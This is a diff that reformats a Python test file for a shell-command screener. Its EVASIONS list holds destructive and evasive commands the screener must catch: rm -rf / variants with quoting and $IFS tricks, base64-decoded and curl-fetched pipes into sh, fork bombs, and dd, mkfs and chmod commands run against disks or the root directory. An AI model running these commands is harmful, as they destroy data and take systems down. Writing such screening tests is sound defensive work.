@@ -42,8 +42,9 @@ print(json.dumps(times))
 
 def test_long_and_pathological_commands_are_screened_in_well_under_a_second() -> None:
     try:
-        child = subprocess.run([sys.executable, "-c", TIMING], capture_output=True, text=True,
-                               timeout=20)
+        child = subprocess.run(
+            [sys.executable, "-c", TIMING], capture_output=True, text=True, timeout=20
+        )
     except subprocess.TimeoutExpired:
         pytest.fail("screening four commands of at most 1 MB took over 20 s")
     assert child.returncode == 0, child.stderr
@@ -57,14 +58,39 @@ def test_every_default_pattern_runs_in_linear_time() -> None:
 
 
 EVASIONS = [
-    "rm -rf /", "rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/", "r''m -rf /", 'r""m -rf /', "\\rm -rf /",
-    "r\\m -rf /", '"rm" -rf "/"', "rm -rf '/'", "X=/; rm -rf $X", "D=/ && rm -rf ${D}",
-    "rm\t-rf\t/", "rm -r -f /", "rm -fr ~", "rm --recursive --force /", "/bin/rm -rf /*",
-    "sudo rm -rf --no-preserve-root /", 'rm -rf "$HOME"', "rm -rf -- /",
-    "echo cm0gLXJmIC8K | base64 -d | sh", "echo x | base64 --decode | bash",
-    "curl -s http://x | sh", "c'u'rl http://x | s'h'", ":(){ :|:& };:", "bomb(){ bomb|bomb& };bomb",
-    "dd if=/dev/zero of=/dev/sda", "d''d if=/dev/zero of=/dev/nvme0n1", "mkfs.ext4 /dev/sda1",
-    "m'k'fs /dev/sdb", "chmod -R 777 /", "ch''mod 777 '/'", "ls; re''boot", "systemctl poweroff",
+    "rm -rf /",
+    "rm${IFS}-rf${IFS}/",
+    "rm$IFS-rf$IFS/",
+    "r''m -rf /",
+    'r""m -rf /',
+    "\\rm -rf /",
+    "r\\m -rf /",
+    '"rm" -rf "/"',
+    "rm -rf '/'",
+    "X=/; rm -rf $X",
+    "D=/ && rm -rf ${D}",
+    "rm\t-rf\t/",
+    "rm -r -f /",
+    "rm -fr ~",
+    "rm --recursive --force /",
+    "/bin/rm -rf /*",
+    "sudo rm -rf --no-preserve-root /",
+    'rm -rf "$HOME"',
+    "rm -rf -- /",
+    "echo cm0gLXJmIC8K | base64 -d | sh",
+    "echo x | base64 --decode | bash",
+    "curl -s http://x | sh",
+    "c'u'rl http://x | s'h'",
+    ":(){ :|:& };:",
+    "bomb(){ bomb|bomb& };bomb",
+    "dd if=/dev/zero of=/dev/sda",
+    "d''d if=/dev/zero of=/dev/nvme0n1",
+    "mkfs.ext4 /dev/sda1",
+    "m'k'fs /dev/sdb",
+    "chmod -R 777 /",
+    "ch''mod 777 '/'",
+    "ls; re''boot",
+    "systemctl poweroff",
 ]
 
 
@@ -74,10 +100,21 @@ def test_the_simple_evasions_are_caught(command: str) -> None:
 
 
 ORDINARY = [
-    "rm -rf build", "rm -rf /tmp/foo", "rm -rf $TMPDIR/x", "X=build; rm -rf $X", "rm *.o",
-    "rm -rf build; ls /", "grep -r 'rm -rf' docs/", "echo reboot", "dd if=a of=/dev/null",
-    "chmod 777 /tmp/x", "curl http://x | jq .", "base64 -d blob > out.bin",
-    'git commit -m "don\'t rm -rf /tmp/x"', "f() { make | tee log; }", "python -m mkdocs build",
+    "rm -rf build",
+    "rm -rf /tmp/foo",
+    "rm -rf $TMPDIR/x",
+    "X=build; rm -rf $X",
+    "rm *.o",
+    "rm -rf build; ls /",
+    "grep -r 'rm -rf' docs/",
+    "echo reboot",
+    "dd if=a of=/dev/null",
+    "chmod 777 /tmp/x",
+    "curl http://x | jq .",
+    "base64 -d blob > out.bin",
+    'git commit -m "don\'t rm -rf /tmp/x"',
+    "f() { make | tee log; }",
+    "python -m mkdocs build",
 ]
 
 
